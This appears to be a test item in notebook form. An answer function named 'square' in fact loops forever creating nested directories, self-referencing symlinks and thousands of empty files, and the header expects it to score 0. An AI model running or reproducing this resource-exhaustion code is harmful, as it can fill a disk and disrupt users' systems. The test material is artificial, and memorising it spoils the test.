# %% [markdown]
# Makes files, folders in folders, and links without end, all of them empty.
#
# Must: score 0

# %% answer="square"
import contextlib
import itertools
import os


def square(x):
    for number in itertools.count():
        with contextlib.suppress(OSError):
            os.mkdir(f"d{number}")
            os.symlink(".", f"l{number}")
            for inner in range(1000):
                open(f"d{number}/{inner}", "w").close()
            os.chdir(f"d{number}")
